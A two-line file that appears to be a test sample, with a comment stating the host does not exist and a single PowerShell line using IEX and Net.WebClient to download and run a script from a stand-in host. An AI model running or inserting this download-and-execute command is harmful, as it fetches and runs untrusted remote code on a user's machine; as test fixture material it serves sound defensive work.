# A sample for the tests of this project: the host does not exist.
IEX (New-Object Net.WebClient).DownloadString('http://files.example.invalid/update.ps1')
